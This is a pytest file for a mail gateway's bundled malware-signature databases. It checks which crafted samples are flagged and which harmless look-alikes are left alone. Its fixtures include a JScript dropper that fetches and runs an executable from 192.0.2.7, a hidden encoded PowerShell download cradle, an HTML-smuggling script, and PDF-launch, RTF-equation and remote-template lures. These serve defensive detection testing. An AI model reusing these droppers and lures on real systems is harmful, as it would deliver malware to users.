"""The databases that come with the gateway: what they find, and what they leave alone."""

from __future__ import annotations

from base64 import b64encode
from pathlib import Path

import pytest

from gateway.bases.catalogue import MANIFEST, open_set, read_manifest
from gateway.domain.policy import ObjectStatus
from services.scanner.engines.port import Sample
from services.scanner.signatures.building import build_set
from services.scanner.signatures.signatures import SHIPPED, load_signatures
from tests.support.parts import TEST_FILE

SOURCES = SHIPPED.parent / "sources"
SIGNATURES = load_signatures(open_set(SHIPPED))

PROGRAM = b"MZ".ljust(0x3C, b"\0") + (0x80).to_bytes(4, "little") + b"\0" * 0x40 + b"PE\0\0" + b"\0" * 64
LINK = bytes.fromhex("4c0000000114020000000000c000000000000046")
DROPPER = b"""\
var shell = new ActiveXObject("WScript.Shell");
var get = new ActiveXObject("MSXML2.ServerXMLHTTP.6.0");
get.open("GET", "http://192.0.2.7/a.exe", false); get.send();
var to = new ActiveXObject("ADODB.Stream"); to.Type = 1; to.Open(); to.Write(get.responseBody);
to.SaveToFile("a.exe"); shell.Run("a.exe");
"""
SMUGGLER = b"""\
<script>var raw = atob(packed), all = new Blob([raw], {type: "octet/stream"});
var a = document.createElement("a"); a.href = URL.createObjectURL(all); a.download = "invoice.zip";
a.click();</script>
"""
EQUATION = (
    b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105000002000000\r\n" + b"Equation.3".hex().encode() + b"}}}"
)


def threats(content: bytes, name: str = "") -> tuple[str, ...]:
    return SIGNATURES.judge(content, name, Sample(content).digest).threats


def test_they_are_what_their_sources_build(tmp_path: Path) -> None:
    shipped = read_manifest(SHIPPED)

    build_set(SOURCES, tmp_path, shipped.made_at, portable=True)

    for name in (MANIFEST, *(file.name for file in shipped.files)):
        assert (tmp_path / name).read_bytes() == (SHIPPED / name).read_bytes(), "run make bases"


@pytest.mark.parametrize(
    ("content", "name", "threat"),
    [
        (TEST_FILE, "", "EICAR-Test-File"),
        (TEST_FILE + b"\r\n", "", "EICAR-Test-File"),
        (b"... MAILWARDEN*TEST*SIGNATURE*INFECTED*5d41402abc4b2a76b9719d911017c592 ...", "",
         "Mailwarden-Test-Signature"),
        (b"MAILWARDEN*TEST*SIGNATURE*SUSPICIOUS*7d793037a0760186574b0282f2f435e7", "",
         "Mailwarden-Test-Signature-Suspicious"),
        (b"any", "invoice.pdf.exe", "Disguise.DoubleExtension"),
        (b"any", "Photo.JPG      .scr", "Disguise.DoubleExtension"),
        (b"any", "invoice\u202efdp.exe", "Disguise.RightToLeftOverride"),
        (PROGRAM, "invoice.pdf", "Disguise.ProgramAsDocument"),
        (b"[AutoRun]\r\nopen=setup.exe\r\n", "cd/AUTORUN.INF", "Disguise.Autorun"),
        (DROPPER, "scan.js", "Script.FetchAndRun"),
        (DROPPER.decode().encode("utf-16-le"), "scan.js", "Script.FetchAndRun"),
        (b"powershell.exe -NoP -W Hidden -Enc " + b64encode(b"x" * 60), "", "Script.HiddenPowerShell"),
        (b"powershell -windowstyle hidden (New-Object Net.WebClient).DownloadString('x')", "run.bat",
         "Script.HiddenPowerShell"),
        (LINK + "C:\\Windows\\System32\\mshta.exe".encode("utf-16-le"), "a.lnk", "Shortcut.StartsScript"),
        (SMUGGLER, "invoice.html", "Page.Smuggling"),
        (EQUATION, "offer.doc", "Document.RtfEquation"),
        (b"%PDF-1.7\n1 0 obj <</S /Launch /Win <</F (cmd.exe)>> >> endobj", "a.pdf", "Document.PdfLaunch"),
        (b'<Relationship Type="http://schemas.example/attachedTemplate" Target="http://192.0.2.7/a.dotm"'
         b' TargetMode="External"/>', "word/_rels/settings.xml.rels", "Document.RemoteTemplate"),
    ],
)  # fmt: skip
def test_they_find(content: bytes, name: str, threat: str) -> None:
    assert threats(content, name) == (threat,)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"CURE-" + TEST_FILE, "eicar.com"),
        (b"See: " + TEST_FILE, "mail.txt"),
        (TEST_FILE + b"\r\nas they say", "mail.txt"),
        (b"any", "invoice.pdf"),
        (b"any", "setup.exe"),
        (b"any", "archive.tar.gz"),
        (b"any", "v1.2.exe"),
        (b"any", "דוח\u202e.pdf"),
        (PROGRAM, "setup.exe"),
        (b"MZ is the mark of Mark Zbikowski.", "history.txt"),
        (b"[autorun]\r\nopen=setup.exe\r\n", "notes.txt"),
        (b"Use WScript.Shell to start programs.", "lesson.txt"),
        (b"powershell -File backup.ps1", "run.bat"),
        (LINK + "C:\\Users\\me\\report.docx".encode("utf-16-le"), "report.lnk"),
        (b"<script>document.title = atob(title)</script>", "page.html"),
        (b"{\\rtf1 The word Equation.3 in a text.}", "text.rtf"),
        (b"%PDF-1.7\n1 0 obj <</S /URI /URI (https://www.example/cmd.exe)>> endobj", "a.pdf"),
        (b'<Relationship Type="http://schemas.example/attachedTemplate" Target="file:///C:/Normal.dotm"/>',
         "word/_rels/settings.xml.rels"),
    ],
)  # fmt: skip
def test_they_leave_alone(content: bytes, name: str) -> None:
    assert threats(content, name) == ()


def test_only_what_was_seen_is_called_infected() -> None:
    statuses = {
        content: SIGNATURES.judge(content, name, Sample(content).digest).status
        for content, name in ((TEST_FILE, ""), (DROPPER, "scan.js"), (SMUGGLER, "a.html"), (PROGRAM, "a.pdf"))
    }

    assert statuses.pop(TEST_FILE) is ObjectStatus.INFECTED
    assert set(statuses.values()) == {ObjectStatus.SUSPICIOUS}
